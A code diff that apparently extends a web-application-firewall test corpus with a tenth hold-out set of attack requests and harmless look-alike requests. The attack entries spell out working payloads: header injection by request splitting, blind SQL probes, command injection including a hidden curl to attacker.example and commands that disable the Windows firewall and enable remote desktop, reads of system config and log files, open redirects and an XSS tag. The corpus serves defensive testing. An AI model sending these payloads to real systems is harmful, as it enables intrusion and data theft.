@@ -749,6 +749,52 @@ const HOLDOUT_9_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'holdout-9: Japanese prose with circled numbers around a URL, and a git URL with a private host', why: 'Japanese ends sentences with 。 and numbers steps with ①②③; a DevOps prompt names an ssh:// login on a private host, a chat handle after a URL, and nip.io and lvh.me names it tests with (a sentence naming nip.io, or with fullwidth digits, is refused by CRS 3.3.4 itself)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('手順①②③を確認してください。詳細は https://example.com/docs。 Also: git clone ssh://git@10.0.0.5/factory.git fails, see https://example.com/help and ask me@10.0.0.1 on chat. For local tests I open http://192.168.1.5.nip.io:3000 and http://app.lvh.me:8080 in the browser.') },
 ];
 
+/**
+ * Hold-out 10 (written from the categories of 1N3/IntruderPayloads at 9b84328, whose FuzzLists and BurpAttacks lists
+ * were replayed as query values by a script that is not committed, and from the benign sections of
+ * minimaxir/big-list-of-naughty-strings at db33ec7): request splitting with request headers, blind subquery probes,
+ * escaped line breaks and terminal escapes before commands, Windows tampering as a whole value, a spaced class walk,
+ * absolute paths into system and server folders, slash-backslash open redirects, and a US-ASCII tag.
+ */
+const HOLDOUT_10_ATTACKS: CorpusEntry[] = [
+  { category: 'protocol', name: 'holdout-10: CRLF then a Referer header in a redirect target', why: 'An application that builds a request from next= gets a Referer of the attacker (request splitting; CRS checks Location and Set-Cookie-like names only)', path: '/api/auth/callback?next=%0d%0aReferer:%20https://attacker.example/' },
+  { category: 'protocol', name: 'holdout-10: U+560A U+560D then an Authorization header', why: 'Servers that truncate 嘊嘍 to LF CR inject the credentials header of the next hop', path: '/api/search?q=%E5%98%8A%E5%98%8DAuthorization:%20Basic%20YWRtaW46YWRtaW4=' },
+  { category: 'sqli', name: 'holdout-10: a blind probe on a subquery of the server version', why: 'A value that goes on with and (select substring(@@version,1,1))=\'M\' reads the version one character at a time (CRS 3.3 misses it)', path: "/api/items?id=%20and%20(select%20substring(@@version,1,1))='M'" },
+  { category: 'sqli', name: 'holdout-10: RLIKE on a CASE subquery', why: 'sqlmap\'s boolean probe through a regular expression error', path: "/api/items?id=%20RLIKE%20(SELECT%20(CASE%20WHEN%20(4346=4346)%20THEN%200x61646d696e%20ELSE%200x28%20END))%20AND%20'Txws'='" },
+  { category: 'cmdi', name: 'holdout-10: a terminal escape before curl', why: '\\033[2A moves the cursor up, so a log viewer hides the line that fetches a script', path: '/api/search?q=%5Cn%5C033%5B2Acurl%20https://attacker.example/x.sh' },
+  { category: 'cmdi', name: 'holdout-10: escaped line breaks around id', why: 'An application that unescapes \\n runs id as a command line of its own', path: '/api/tools/lookup?domain=%5Cnid%7C' },
+  { category: 'cmdi', name: 'holdout-10: a command ended by an escaped line break', why: '127.0.0.1;id\\n: the escape is the line end once unescaped', path: '/api/tools/ping?host=127.0.0.1;id%5Cn' },
+  { category: 'cmdi', name: 'holdout-10: pwd after a separator', why: 'The working directory, the first step of a blind command injection', path: '/api/tools/ping?host=127.0.0.1;%20pwd' },
+  { category: 'cmdi', name: 'holdout-10: dir after an ampersand', why: 'cmd.exe lists the folder after the ping', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: '8.8.8.8 & dir' } },
+  { category: 'cmdi', name: 'holdout-10: a firewall switched off as a whole value', why: 'netsh advfirewall set allprofiles state off passed whole to cmd.exe', path: '/api/tools/run?cmd=netsh%20advfirewall%20set%20allprofiles%20state%20off' },
+  { category: 'cmdi', name: 'holdout-10: a registry change that opens remote desktop', why: 'reg add "HKLM\\…\\Terminal Server" /v fDenyTSConnections … /f as a form value', method: 'POST', path: '/api/tools/run', headers: form, body: 'cmd=reg%20add%20%22HKLM%5CSystem%5CCurrentControlSet%5CControl%5CTerminal%20Server%22%20/v%20fDenyTSConnections%20/t%20REG_DWORD%20/d%200%20/f' },
+  { category: 'cmdi', name: 'holdout-10: net view of a file server', why: 'Share enumeration of another host', path: '/api/tools/run?cmd=net%20view%20%5C%5Cfileserver' },
+  { category: 'cmdi', name: 'holdout-10: a class walk with spaces inside the underscores', why: '{{[].__ class __.__ base __.__ subclasses __()}} slips past a filter for __class__', path: '/api/templates/preview?tpl=%7B%7B%5B%5D.__%20class%20__.__%20base%20__.__%20subclasses%20__()%7D%7D' },
+  { category: 'lfi-rfi', name: 'holdout-10: the Apache config as a file parameter', why: '/etc/apache/conf/httpd.conf, which CRS 4 no longer lists', path: '/api/files?path=/etc/apache/conf/httpd.conf' },
+  { category: 'lfi-rfi', name: 'holdout-10: a server config under /usr/local', why: '/usr/local/php4/httpd.conf', path: '/api/files?path=/usr/local/php4/httpd.conf' },
+  { category: 'lfi-rfi', name: 'holdout-10: the MySQL config on a Windows drive', why: 'C:\\ProgramFiles\\MySQL\\MySQLServer5.0\\my.cnf holds the server\'s settings', method: 'POST', path: '/api/files/read', headers: bearer, json: { path: 'C:\\ProgramFiles\\MySQL\\MySQLServer5.0\\my.cnf' } },
+  { category: 'lfi-rfi', name: 'holdout-10: a XAMPP Tomcat config from the drive root', why: '\\xampp\\tomcat\\conf\\web.xml', path: '/api/files?path=%5Cxampp%5Ctomcat%5Cconf%5Cweb.xml' },
+  { category: 'lfi-rfi', name: 'holdout-10: php.ini behind mixed separators', why: '/NetServer\\bin\\stable\\apache\\php.ini', path: '/api/files?path=/NetServer%5Cbin%5Cstable%5Capache%5Cphp.ini' },
+  { category: 'lfi-rfi', name: 'holdout-10: the kernel command line', why: '/proc/cmdline names the boot image and its options', path: '/api/logs?file=/proc/cmdline' },
+  { category: 'lfi-rfi', name: 'holdout-10: the login records', why: '/var/log/wtmp lists who logged in from where', path: '/api/logs?file=/var/log/wtmp' },
+  { category: 'lfi-rfi', name: 'holdout-10: a slash and a backslash before a host', why: 'Browsers follow /\\attacker.example as //attacker.example: an open redirect past a check for //', path: '/api/auth/callback?next=/%5Cattacker.example' },
+  { category: 'lfi-rfi', name: 'holdout-10: a tab between two slashes before a host', why: '/%09/attacker.example: browsers drop the tab', path: '/api/auth/callback?next=/%09/attacker.example' },
+  { category: 'lfi-rfi', name: 'holdout-10: escaped slashes before a host', why: '\\/\\/attacker.example is //attacker.example to a JSON-unescaping redirect', path: '/api/auth/callback?next=%5C/%5C/attacker.example' },
+  { category: 'xss', name: 'holdout-10: a script tag in US-ASCII with the eighth bit set', why: '\\xbcscript\\xbe is <script> to a decoder that drops the eighth bit (CRS 941310, removed for its false positives, covered by 1022)', path: '/api/search?q=%BCscript%BEalert(1)%BC/script%BE' },
+];
+
+const HOLDOUT_10_BENIGN: CorpusEntry[] = [
+  { category: 'prompt', name: 'holdout-10: a Russian prompt', why: 'м … о is \\xbc … \\xbe in UTF-8, which CRS 3.3\'s 941310 refused', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Сделай мне сводку по продажам за ноябрь и сравни с октябрём. Мне нужно написать отчёт.') },
+  { category: 'read', name: 'holdout-10: a Russian search', why: 'The same bytes in a query value', path: '/api/search?q=%D0%BC%D0%BD%D0%B5%20%D0%BD%D1%83%D0%B6%D0%BD%D0%BE%20%D0%BD%D0%B0%D0%BF%D0%B8%D1%81%D0%B0%D1%82%D1%8C%20%D0%BE%D1%82%D1%87%D1%91%D1%82' },
+  { category: 'prompt', name: 'holdout-10: a Japanese prompt with a slash and a closing tag', why: 'ー/ and </div> before ました meet CRS 4\'s 941310 too', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('サーバー/クライアント構成で </div> を削除したらエラーが発生しました。ログを確認してください。') },
+  { category: 'read', name: 'holdout-10: a multi-line search with cookie and referral lines', why: 'Header-like words at line starts, without a header colon', path: '/api/search?q=Cookie%20policy%0AReferral%20program%0ACookie%20banner' },
+  { category: 'read', name: 'holdout-10: a question about RLIKE', why: 'SQL words without a subquery', path: '/api/search?q=rlike%20vs%20regexp%20in%20mysql' },
+  { category: 'read', name: 'holdout-10: a workspace file by absolute path', why: 'An agent\'s output file is not under a system folder', path: '/api/files?path=/workspace/runs/42/output.log' },
+  { category: 'prompt', name: 'holdout-10: a prompt with a system path and a terminal colour escape', why: 'A path in a sentence is not a path value; \\033[31m is followed by a word, not a command', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does /usr/local/bin/node not find my modules, and why does printf "\\033[31mred\\033[0m" print in colour? Pick one and (select all that apply) below.') },
+  { category: 'read', name: 'holdout-10: a redirect target and an escaped-slash pattern', why: 'A path on this site, and a regular expression of API paths', path: '/api/auth/callback?next=/dashboard/runs&pattern=%5E%5C/api%5C/v1%5C/' },
+  { category: 'read', name: 'holdout-10: net view in prose', why: 'The words of a Windows command in a phrase', path: '/api/search?q=net%20view%20of%20the%20city' },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -824,6 +870,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...HOLDOUT_7_ATTACKS,
   ...HOLDOUT_8_ATTACKS,
   ...HOLDOUT_9_ATTACKS,
+  ...HOLDOUT_10_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -882,4 +929,5 @@ export const BENIGN: CorpusEntry[] = [
   ...HOLDOUT_7_BENIGN,
   ...HOLDOUT_8_BENIGN,
   ...HOLDOUT_9_BENIGN,
+  ...HOLDOUT_10_BENIGN,
 ];
